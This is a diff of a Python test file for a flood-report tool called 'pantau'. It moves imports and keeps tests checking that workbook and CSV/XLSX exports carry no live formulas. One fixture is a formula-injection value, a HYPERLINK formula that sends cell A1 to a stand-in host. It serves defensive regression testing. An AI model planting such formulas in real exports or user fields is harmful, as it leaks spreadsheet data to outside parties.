@@ -9,12 +9,12 @@ import openpyxl
 import pandas as pd
 import pytest
 
-from pantau.auth import authenticate
-from pantau.db import Database, tables
-from pantau.db import events as event_store
-from pantau.safetext import clean, defuse, export_frame
-from pantau.sites import edit_site
-from pantau.sla import ServiceLevel
+from pantau.access.auth import authenticate
+from pantau.floods.sla import ServiceLevel
+from pantau.kernel.safetext import clean, defuse, export_frame
+from pantau.sites.rules import edit_site
+from pantau.store import Database, tables
+from pantau.store import events as event_store
 
 NOW = datetime(2026, 11, 24, 3, 0)
 PLUIT = "31.72.01.1005"
@@ -84,8 +84,8 @@ def test_the_meeting_workbook_carries_no_live_formula(sample_copy: Database) -> 
     """Site names starting with `=` once went out as live formulas in the meeting XLSX."""
     from datetime import date
 
-    from pantau.brief import workbook
-    from pantau.meeting import build_brief
+    from pantau.meeting.brief import workbook
+    from pantau.meeting.review import build_brief
 
     cur = sample_copy.cursor()
     for site in tables.rows(cur, "sites"):
@@ -99,7 +99,8 @@ def test_the_meeting_workbook_carries_no_live_formula(sample_copy: Database) -> 
 
 def test_site_and_report_list_downloads_carry_no_live_formula(sample_copy: Database) -> None:
     """The list pages' CSV and XLSX downloads go through the same writer as the brief."""
-    from pantau import report_list, site_list
+    from pantau.floods import listing as report_list
+    from pantau.sites import listing as site_list
 
     cur = sample_copy.cursor()
     formula = '=HYPERLINK("http://x/?a="&A1,"klik")'
